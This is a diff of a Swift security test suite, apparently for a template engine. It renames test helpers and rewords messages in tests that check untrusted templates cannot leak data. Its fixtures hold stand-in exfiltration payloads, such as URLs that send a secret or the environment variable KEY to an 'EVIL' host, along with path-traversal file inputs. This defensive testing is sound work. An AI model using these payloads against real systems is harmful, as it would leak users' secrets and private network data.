@@ -3,16 +3,16 @@ import TemplateData
 import TestSupport
 import Testing
 
-/// What a template that nobody trusts can learn of a machine and its network, and send away.
+/// What an untrusted template can learn about a machine and its network, and send away.
 struct ExfiltrationTests {
   struct Attack: CustomTestStringConvertible, Sendable {
     var testDescription: String
     var sources: String
-    /// What the person set.
+    /// The values that the user set.
     var values: [String: String]
-    /// What the private server may be asked: what the person named.
+    /// The allowed requests to the private server, which the user specified.
     var local: [String]
-    /// The source that gives nothing, and a part of the reason.
+    /// The source that provides nothing, and a part of the reason.
     var refused: (source: String, reason: String)
 
     init(
@@ -84,7 +84,7 @@ struct ExfiltrationTests {
       local: ["/data"], "sends data from 'local' to another server"),
     Attack(
       "a parameter to a host that a server names",
-      "{ \(evil), \"c\": { \"url\": \"{evil.url}/?x={key}\" } }", ["key": AttackStage.secret],
+      "{ \(evil), \"c\": { \"url\": \"{evil.url}/?x={key}\" } }", ["key": AttackScenario.secret],
       "appends to the address from 'evil'"),
     Attack(
       "more of a server's data to a host that it names",
@@ -109,12 +109,12 @@ struct ExfiltrationTests {
     Attack(
       "a private server that leads away with what it is sent",
       "{ \(localData), \"c\": { \"url\": \"{server}/go/{local.token}\" } }", named,
-      local: ["/data", "/go/\(AttackStage.secret)"], "is no address of the local network"),
+      local: ["/data", "/go/\(AttackScenario.secret)"], "is not an address of the local network"),
     Attack(
       "a chain over the private server",
       "{ \(localData), \"b\": { \"url\": \"{server}/b/{local.token}\" }, "
         + "\"c\": { \"url\": \"http://EVIL/{b.token}\" } }",
-      named, local: ["/data", "/b/\(AttackStage.secret)"],
+      named, local: ["/data", "/b/\(AttackScenario.secret)"],
       "sends data from 'b' to another server"),
     Attack(
       "a chain that begins with a file",
@@ -126,7 +126,7 @@ struct ExfiltrationTests {
     Attack(
       "a secret",
       #"{ "c": { "url": "http://EVIL/", "headers": { "X-Key": { "environment": "KEY" } } } }"#,
-      "uses the secret in the environment's 'KEY', which is not allowed"),
+      "uses the secret in the environment variable 'KEY', which is not allowed"),
   ]
 
   private static let disguised: [Attack] = [
@@ -136,10 +136,10 @@ struct ExfiltrationTests {
       "'url' must begin with the whole server"),
     Attack(
       "a parameter as a part of the host's name", #"{ "c": { "url": "{key}.evil.test/" } }"#,
-      ["key": "http://\(AttackStage.secret)"], "'url' must begin with the whole server"),
+      ["key": "http://\(AttackScenario.secret)"], "'url' must begin with the whole server"),
     Attack(
       "a parameter as the user", #"{ "c": { "url": "{key}@EVIL/" } }"#,
-      ["key": "http://\(AttackStage.secret)"], "it has no name and no password"),
+      ["key": "http://\(AttackScenario.secret)"], "without user name or password"),
     Attack(
       "another port of the private server", #"{ "c": { "url": "{key}PORT/" } }"#,
       ["key": "http://127.0.0.2:"], "'url' must begin with the whole server"),
@@ -191,31 +191,31 @@ struct ExfiltrationTests {
       "sends the header field 'Cookie'"),
     Attack(
       "a file behind a harmless choice", #"{ "c": { "file": "{pick}" } }"#,
-      ["pick": "FOLDER/secret.json"], "it lies outside of the template's folder"),
+      ["pick": "FOLDER/secret.json"], "it is outside the template's folder"),
     Attack(
       "a file beside the folder that was named", #"{ "c": { "file": "{file}/../secret.json" } }"#,
-      ["file": "FOLDER/data"], "it lies outside of '"),
+      ["file": "FOLDER/data"], "it is outside '"),
     Attack(
       "a file that a foreign server names in a folder that was named",
       "{ \(evil), \"c\": { \"file\": \"{file}/{evil.path}\" } }", ["file": "FOLDER/data"],
-      "it lies outside of '"),
+      "it is outside '"),
     Attack(
       "a file whose name begins like what was named", #"{ "c": { "file": "{file}ret.json" } }"#,
       ["file": "FOLDER/sec"], "the parameter 'file' must be the whole path"),
   ]
 
   @Test(
-    "An attack learns nothing and sends nothing", arguments: carried + disguised + reached + led)
+    "An attack obtains nothing and sends nothing", arguments: carried + disguised + reached + led)
   func refuses(_ attack: Attack) throws {
-    let stage = try AttackStage()
-    let given = try stage.run(attack.sources, attack.values)
+    let scenario = try AttackScenario()
+    let given = try scenario.run(attack.sources, attack.values)
     let failure = given[attack.refused.source]?.failure ?? "it gave something"
     #expect(failure.contains(attack.refused.reason), "\(failure)")
     #expect(given[attack.refused.source]?.value == nil)
-    #expect(stage.local.requests.map(\.path) == attack.local)
-    for request in stage.evil.requests {
+    #expect(scenario.privateServer.requests.map(\.path) == attack.local)
+    for request in scenario.attackerServer.requests {
       let all = "\(request)"
-      #expect(!all.contains(AttackStage.secret), "\(all)")
+      #expect(!all.contains(AttackScenario.secret), "\(all)")
     }
   }
 
@@ -240,7 +240,7 @@ struct ExfiltrationTests {
       testDescription: "more of the server that gave a number",
       sources:
         #"{ "list": { "url": "{server}/list" }, "c": { "url": "{server}/item/{list.token}" } }"#,
-      values: ["server": "http://LOCAL"], local: ["/list", "/item/\(AttackStage.secret)"]),
+      values: ["server": "http://LOCAL"], local: ["/list", "/item/\(AttackScenario.secret)"]),
     Use(
       testDescription: "more of a server that is written in the template",
       sources:
@@ -267,39 +267,39 @@ struct ExfiltrationTests {
       sources: #"{ "c": { "file": "{file}.json" } }"#, values: ["file": "FOLDER/secret"]),
   ]
 
-  @Test("What a template is for needs no trust", arguments: uses)
+  @Test("Ordinary use of sources needs no trust", arguments: uses)
   func permits(_ use: Use) throws {
-    let stage = try AttackStage()
-    let given = try stage.run(use.sources, use.values)
+    let scenario = try AttackScenario()
+    let given = try scenario.run(use.sources, use.values)
     #expect(given.values.allSatisfy { $0.failure == nil && $0.value != nil }, "\(given)")
-    #expect(stage.local.requests.map(\.path) == use.local)
-    #expect(stage.evil.requests.map(\.path) == use.evil)
+    #expect(scenario.privateServer.requests.map(\.path) == use.local)
+    #expect(scenario.attackerServer.requests.map(\.path) == use.evil)
   }
 
   @Test(
-    "A trusted template may send and reach what it says, but data may not reach the local network")
+    "A trusted template may reach and send anything, but data may not reach the local network")
   func trusts() throws {
-    let stage = try AttackStage()
-    let given = try stage.run(
+    let scenario = try AttackScenario()
+    let given = try scenario.run(
       #"""
       { "evil": { "url": "http://EVIL/e" }, "local": { "url": "http://LOCAL/data" },
         "sent": { "url": "http://EVIL/?x={local.token}" }, "joined": { "url": "{evil.base}/{local.token}" },
         "led": { "url": "{evil.home}" } }
       """#, trusts: true)
     #expect(given["sent"]?.failure == nil && given["joined"]?.failure == nil)
-    #expect(stage.evil.requests.map(\.path) == ["/e", "/?x=S3CRET", "/S3CRET"])
+    #expect(scenario.attackerServer.requests.map(\.path) == ["/e", "/?x=S3CRET", "/S3CRET"])
     #expect(
       given["led"]?.failure?.contains("is an address of this machine or its network") == true)
-    #expect(stage.local.requests.map(\.path) == ["/data"])
+    #expect(scenario.privateServer.requests.map(\.path) == ["/data"])
   }
 
-  @Test("What was kept of a private server is not shown when the trust has ended")
+  @Test("A cached response of a private server is not shown after trust has ended")
   func forgets() throws {
-    let stage = try AttackStage()
+    let scenario = try AttackScenario()
     let sources = #"{ "local": { "url": "http://LOCAL/data" } }"#
-    #expect(try stage.run(sources, trusts: true)["local"]?.value != nil)
-    let later = try #require(try stage.run(sources)["local"])
+    #expect(try scenario.run(sources, trusts: true)["local"]?.value != nil)
+    let later = try #require(try scenario.run(sources)["local"])
     #expect(later.value == nil && later.failure != nil)
-    #expect(stage.local.requests.count == 1)
+    #expect(scenario.privateServer.requests.count == 1)
   }
 }
